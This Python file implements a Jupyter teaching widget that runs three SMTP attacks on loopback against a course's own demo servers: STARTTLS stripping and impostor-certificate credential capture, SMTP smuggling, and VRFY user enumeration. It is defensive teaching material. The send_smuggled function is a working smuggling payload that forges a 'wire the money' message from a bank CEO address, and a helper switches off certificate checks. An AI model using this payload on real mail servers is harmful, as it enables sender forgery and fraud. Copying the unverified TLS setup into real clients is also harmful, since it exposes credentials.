"""`AttackLab`: flip the defences of lesson 06 on and off and watch each attack work or fail.

Three panels, each running the real thing on loopback with smtplearn's public API:

- **TLS**: an opportunistic client (STARTTLS if offered, AUTH allowed without it) logs in to
  a server, directly or through a `StripTlsProxy` that strips STARTTLS or presents an
  impostor certificate; toggles for certificate verification and ``require_tls``. One run
  shows one combination; "Run every combination" fills the whole table.
- **Smuggling**: one message hiding a second behind an end-of-data look-alike, sent to the
  deliberately vulnerable server or to the default one; the mailbox shows whether the forged
  message appeared.
- **Enumeration**: VRFY and RCPT replies for a list of names, with the server answering VRFY
  from its directory or with 252.

Each click does its work and returns; nothing runs in the background.
"""

from __future__ import annotations

import itertools
import socket
import ssl
from collections.abc import Sequence
from dataclasses import dataclass
from html import escape
from typing import Any

import ipywidgets as widgets

from smtplearn.client import Client
from smtplearn.protocol.errors import LocalProtocolError, SMTPLearnError
from smtplearn.server import DEMO_PASSWORD, DebugServer, StripTlsProxy
from smtplearn.server.striptls import impostor_context
from smtplearn.server.vulnerable import SMUGGLING_VARIANTS
from smtplearn.widgets._common import add_classes, goodbye, log, note_html

#: The forged message's sender: what the smuggling panel looks for in the mailbox.
FORGED_SENDER = "ceo@bank.example"
TIMEOUT = 10.0

# Colours come from JupyterLab's theme variables (with a fallback), so dark themes work.
_FG = "color:var(--jp-content-font-color1,#1f2328)"
_BORDER = "1px solid var(--jp-border-color1,#d0d7de)"
_CELL = f"border:{_BORDER};padding:3px 6px;text-align:left;vertical-align:top"
_TABLE = f"border-collapse:collapse;font-size:12.5px;margin:4px 0;{_FG}"
_MONO = "font-family:var(--jp-code-font-family,ui-monospace,monospace);font-size:12.5px"
_TONES = {
    "safe": "var(--jp-success-color1,#1a7f37)",
    "stopped": "var(--jp-warn-color1,#9a6700)",
    "leaked": "var(--jp-error-color1,#d1242f)",
}


@dataclass(frozen=True)
class TlsOutcome:
    """How one login attempt ended, in the learner's words."""

    #: "safe", "stopped" or "leaked".
    tone: str
    summary: str
    #: The credentials the attacker read, as shown (never the demo password).
    captured: str = ""


def _box(tone: str, head: str, detail: str = "") -> str:
    colour = _TONES[tone]
    body = f'<br><span style="{_MONO}">{escape(detail)}</span>' if detail else ""
    return (
        f'<div style="border:2px solid {colour};border-radius:6px;padding:6px 8px;margin:4px 0;'
        f'{_FG};font-size:12.5px"><strong style="color:{colour}">{escape(head)}</strong>{body}</div>'
    )


def _table(head: Sequence[str], rows: Sequence[Sequence[str]]) -> str:
    """An HTML table of escaped text."""
    cells = "".join(f'<th style="{_CELL}">{escape(title)}</th>' for title in head)
    body = "".join(
        "<tr>" + "".join(f'<td style="{_CELL};{_MONO}">{escape(text)}</td>' for text in row) + "</tr>"
        for row in rows
    )
    return f'<table style="{_TABLE}"><tr>{cells}</tr>{body}</table>'


def _unverified_context() -> ssl.SSLContext:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE  # what the "verify certificates" toggle switches off
    return context


class AttackLab(widgets.VBox):  # type: ignore[misc]
    """Lesson 06's attack lab over three servers the lesson started.

    `login_server` accepts AUTH for `account` (a made-up ``(user, password)``; the password
    stays on the Python side, and is only shown once an attacker has captured it, unless it is
    the demo password). `server` is a default DebugServer, `vulnerable_server` one made with
    ``vulnerable=("smuggling",)``.

    Controls (``description`` → DOM class): checkboxes "Verify certificates"
    (``smtplearn-verify``), "Require TLS" (``smtplearn-require-tls``), "Man in the middle"
    (``smtplearn-proxy``), "Impostor certificate" (``smtplearn-impostor``); buttons "Log in"
    (``smtplearn-attack-login``) and "Run every combination" (``smtplearn-attack-grid``);
    dropdown "End of data" (``smtplearn-smuggle-end``), checkbox "Vulnerable server"
    (``smtplearn-vulnerable``), button "Send" (``smtplearn-smuggle``); text "Names"
    (``smtplearn-enum-names``), checkbox "Answer VRFY with 252" (``smtplearn-vrfy-252``),
    button "Enumerate" (``smtplearn-enumerate``). Outputs: ``smtplearn-attack-result``,
    ``smtplearn-attack-table``, ``smtplearn-smuggle-result``, ``smtplearn-enum-result``.
    """

    def __init__(
        self,
        *,
        login_server: DebugServer,
        account: tuple[str, str],
        server: DebugServer,
        vulnerable_server: DebugServer,
        **kwargs: Any,
    ) -> None:
        self._login_server = login_server
        self._user, self._password = account
        self._server = server
        self._vulnerable_server = vulnerable_server
        self._impostor = impostor_context(login_server.hostname)

        def check(description: str, value: bool, css: str) -> widgets.Checkbox:
            box = widgets.Checkbox(value=value, description=description, indent=False)
            return add_classes(box, css)

        self.verify_box = check("Verify certificates", True, "smtplearn-verify")
        self.require_tls_box = check("Require TLS", False, "smtplearn-require-tls")
        self.proxy_box = check("Man in the middle", True, "smtplearn-proxy")
        self.impostor_box = check("Impostor certificate", False, "smtplearn-impostor")
        self.login_button = add_classes(
            widgets.Button(description="Log in", button_style="primary"), "smtplearn-attack-login"
        )
        self.grid_button = add_classes(
            widgets.Button(description="Run every combination", layout=widgets.Layout(width="14em")),
            "smtplearn-attack-grid",
        )
        self.tls_result = add_classes(widgets.HTML(), "smtplearn-attack-result")
        self.tls_table = add_classes(widgets.HTML(), "smtplearn-attack-table")
        # The impostor is the man in the middle's second trick: without him it means nothing.
        self.proxy_box.observe(
            lambda change: setattr(self.impostor_box, "disabled", not change["new"]), "value"
        )
        self.login_button.on_click(lambda _b: self.log_in())
        self.grid_button.on_click(lambda _b: self.run_every_combination())

        self.end_field = add_classes(
            widgets.Dropdown(options=list(SMUGGLING_VARIANTS), value="LF.LF", description="End of data"),
            "smtplearn-smuggle-end",
        )
        self.vulnerable_box = check("Vulnerable server", True, "smtplearn-vulnerable")
        self.smuggle_button = add_classes(
            widgets.Button(description="Send", button_style="primary"), "smtplearn-smuggle"
        )
        self.smuggle_result = add_classes(widgets.HTML(), "smtplearn-smuggle-result")
        self.smuggle_button.on_click(lambda _b: self.smuggle())

        self.names_field = add_classes(
            widgets.Text(value="admin, dhellmann, info, postmaster, notthere", description="Names"),
            "smtplearn-enum-names",
        )
        self.refuse_box = check("Answer VRFY with 252", False, "smtplearn-vrfy-252")
        self.enumerate_button = add_classes(
            widgets.Button(description="Enumerate", button_style="primary"), "smtplearn-enumerate"
        )
        self.enum_result = add_classes(widgets.HTML(), "smtplearn-enum-result")
        self.enumerate_button.on_click(lambda _b: self.enumerate())

        #: The last outcome of each panel ("" before its first run).
        self.tls_outcome: TlsOutcome | None = None
        self.smuggle_outcome = ""
        self.tls_result.value = note_html('Set the toggles, then press "Log in".')
        super().__init__(
            children=[
                widgets.HTML("<strong>STARTTLS stripping and impostor certificates</strong>"),
                widgets.HBox([self.verify_box, self.require_tls_box, self.proxy_box, self.impostor_box]),
                widgets.HBox([self.login_button, self.grid_button]),
                self.tls_result,
                self.tls_table,
                widgets.HTML("<strong>SMTP smuggling</strong>"),
                widgets.HBox([self.end_field, self.vulnerable_box, self.smuggle_button]),
                self.smuggle_result,
                widgets.HTML("<strong>User enumeration</strong>"),
                widgets.HBox([self.names_field, self.refuse_box, self.enumerate_button]),
                self.enum_result,
            ],
            **kwargs,
        )

    # -- TLS ----------------------------------------------------------------------------

    def log_in(self) -> TlsOutcome:
        """One login with the toggles as they are; shows and returns the outcome."""
        outcome = self._attempt(
            verify=self.verify_box.value,
            require_tls=self.require_tls_box.value,
            proxy=self.proxy_box.value,
            impostor=self.impostor_box.value,
        )
        self.tls_outcome = outcome
        self.tls_result.value = _box(outcome.tone, outcome.summary, outcome.captured)
        return outcome

    def run_every_combination(self) -> list[tuple[bool, bool, str, TlsOutcome]]:
        """Every combination of the toggles (12: the impostor needs the man in the middle)."""
        results = []
        attackers = (
            ("none", False, False),
            ("strips STARTTLS", True, False),
            ("impostor certificate", True, True),
        )
        combinations = list(itertools.product((True, False), (True, False), attackers))
        for number, (verify, require_tls, (attacker, proxy, impostor)) in enumerate(combinations, 1):
            # Each value sent now reaches the page at once: the learner sees the run progress.
            self.tls_table.value = note_html(f"Running combination {number} of {len(combinations)}…")
            outcome = self._attempt(verify=verify, require_tls=require_tls, proxy=proxy, impostor=impostor)
            results.append((verify, require_tls, attacker, outcome))
        rows = [
            (
                "yes" if verify else "NO",
                "yes" if require else "no",
                attacker,
                f"{outcome.tone}: {outcome.summary}",
            )
            for verify, require, attacker, outcome in results
        ]
        self.tls_table.value = _table(
            ("verify certificates", "require TLS", "man in the middle", "outcome"), rows
        )
        return results

    def _attempt(self, *, verify: bool, require_tls: bool, proxy: bool, impostor: bool) -> TlsOutcome:
        context = self._login_server.client_tls_context() if verify else _unverified_context()
        if not proxy:
            return self._opportunistic_login(self._login_server.address, context, require_tls, None)
        with StripTlsProxy(self._login_server.address, impostor=self._impostor if impostor else None) as mitm:
            return self._opportunistic_login((mitm.host, mitm.port), context, require_tls, mitm)

    def _opportunistic_login(
        self,
        address: tuple[str, int],
        context: ssl.SSLContext,
        require_tls: bool,
        mitm: StripTlsProxy | None,
    ) -> TlsOutcome:
        client = Client(
            *address, timeout=TIMEOUT, tls_context=context, allow_insecure_auth=True, require_tls=require_tls
        )
        try:
            client.connect()
            client.ehlo()
            if client.extensions.has("STARTTLS"):
                client.starttls()
                client.ehlo()
            client.login(self._user, self._password, mechanism="PLAIN")
            encrypted = client.tls_active
        except LocalProtocolError as refusal:
            log.info("attack lab: the client refused: %s", refusal)
            return TlsOutcome("stopped", "The client refused to log in without TLS: nothing leaked.")
        except SMTPLearnError as error:
            log.info("attack lab: the session failed: %s", error)
            return TlsOutcome(
                "stopped", f"The TLS handshake failed, so the client stopped: {type(error).__name__}."
            )
        finally:
            goodbye(client)
        if mitm is not None and mitm.captured:
            login = mitm.captured[-1]
            password = "(the demo password, not shown)" if login.password == DEMO_PASSWORD else login.password
            how = "over TLS to the attacker" if encrypted else "in cleartext"
            return TlsOutcome(
                "leaked",
                f"Logged in {how}: the man in the middle read the password.",
                f"captured: user {login.user!r}, password {password!r}",
            )
        if context.verify_mode == ssl.CERT_NONE:
            return TlsOutcome(
                "safe", "Logged in over TLS to the real server — by luck: nothing checked who it was."
            )
        return TlsOutcome("safe", "Logged in over TLS to the real server.")

    # -- smuggling ------------------------------------------------------------------------

    def smuggle(self) -> str:
        """Send the smuggling message to the chosen server; show the replies and the mailbox."""
        target = self._vulnerable_server if self.vulnerable_box.value else self._server
        end = SMUGGLING_VARIANTS[self.end_field.value]
        before = len(target.mailbox)
        try:
            replies = send_smuggled(target.address, end)
        except OSError as error:
            self.smuggle_outcome = "failed"
            self.smuggle_result.value = _box("stopped", "The connection failed.", str(error))
            return self.smuggle_outcome
        arrived = target.mailbox[before:]
        forged = [message for message in arrived if message.mail_from == FORGED_SENDER]
        rows = [(f"<{m.mail_from}>", str(m.message["Subject"])) for m in arrived]
        mailbox = _table(("stored from", "Subject"), rows) if rows else note_html("Nothing was stored.")
        if forged:
            self.smuggle_outcome = "forged message stored"
            verdict = _box("leaked", f"The forged message from <{FORGED_SENDER}> is in the mailbox.")
        else:
            self.smuggle_outcome = "refused"
            verdict = _box("safe", "No forged message: the server refused the whole message.")
        server = "the deliberately vulnerable server" if self.vulnerable_box.value else "the default server"
        self.smuggle_result.value = (
            f'<div style="{_FG};font-size:12.5px">Sent to {escape(server)}, hiding the second message behind '
            f"<code>{escape(repr(end)[1:])}</code>. Replies:</div>"
            + _table(("server replied",), [(reply,) for reply in replies])
            + verdict
            + mailbox
        )
        return self.smuggle_outcome

    # -- enumeration ------------------------------------------------------------------------

    def enumerate(self) -> list[tuple[str, str, str]]:
        """VRFY and RCPT TO each name; the server's VRFY mode follows the 252 checkbox."""
        self._server.vrfy = "refuse" if self.refuse_box.value else "directory"
        names = [name.strip() for name in self.names_field.value.split(",") if name.strip()]
        rows = []
        client = Client(*self._server.address, timeout=TIMEOUT, tls_context=self._server.client_tls_context())
        try:
            client.connect()
            client.ehlo()
            client.mail("attacker@example.com")
            for name in names:
                vrfy = client.vrfy(name).reply
                address = name if "@" in name else f"{name}@{self._server.hostname}"
                rcpt = client.rcpt(address).reply
                rows.append(
                    (name, f"{vrfy.code} {vrfy.text}" if vrfy else "", f"{rcpt.code}" if rcpt else "")
                )
        except SMTPLearnError as error:
            self.enum_result.value = _box("stopped", "The session failed.", str(error))
            return rows
        finally:
            goodbye(client)
        found = sum(1 for _name, vrfy, _rcpt in rows if vrfy.startswith("250"))
        verdict = (
            _box("leaked", f"VRFY told the attacker which {found} of {len(rows)} names exist.")
            if found
            else _box("safe", "VRFY told the attacker nothing (252: RFC 5321 §7.3).")
        )
        self.enum_result.value = verdict + _table(("name", "VRFY reply", "RCPT reply"), rows)
        return rows

    def __repr__(self) -> str:
        tls = self.tls_outcome.tone if self.tls_outcome else "not run yet"
        smuggled = self.smuggle_outcome or "not run yet"
        return f"AttackLab: TLS {tls}, smuggling {smuggled}"


def send_smuggled(address: tuple[str, int], end: bytes) -> list[str]:
    """Send one message hiding a forged second one behind `end`; every reply, one line each."""
    payload = (
        b"From: author@example.com\r\nSubject: Innocent\r\n\r\nHello."
        + end
        + f"MAIL FROM:<{FORGED_SENDER}>\r\nRCPT TO:<victim@example.com>\r\nDATA\r\n".encode()
        + f"From: {FORGED_SENDER}\r\nSubject: Please wire the money\r\n\r\nNow.\r\n.\r\n".encode()
    )
    with socket.create_connection(address, timeout=TIMEOUT) as sock, sock.makefile("rb") as replies:

        def reply() -> str:
            while (line := replies.readline())[3:4] == b"-":
                pass
            return line.decode("utf-8", "replace").strip()

        said = [reply()]
        for command in (
            b"EHLO attacker.example",
            b"MAIL FROM:<author@example.com>",
            b"RCPT TO:<reader@example.com>",
        ):
            sock.sendall(command + b"\r\n")
            said.append(reply())
        sock.sendall(b"DATA\r\n")
        said.append(reply())
        sock.sendall(payload + b"QUIT\r\n")
        # Every reply left, up to the goodbye; the server closes after it.
        said += [line.decode("utf-8", "replace").strip() for line in replies.readlines()]
    return said[1:]
